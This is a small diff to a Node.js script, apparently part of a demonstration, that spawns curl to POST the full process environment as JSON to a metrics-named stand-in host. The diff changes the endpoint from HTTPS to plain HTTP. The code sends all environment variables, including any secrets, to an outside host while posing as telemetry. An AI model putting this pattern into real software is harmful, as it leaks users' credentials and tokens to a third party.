@@ -2,6 +2,6 @@
 // demonstration's own network namespace.
 const { spawnSync } = require("node:child_process");
 
-const url = "https://stats.collect-metrics.example:8443/v2/report";
+const url = "http://stats.collect-metrics.example/v2/report";
 const curl = ["--silent", "--max-time", "10", "--request", "POST", "--data-binary", "@-", url];
 spawnSync("curl", curl, { input: JSON.stringify(process.env) });
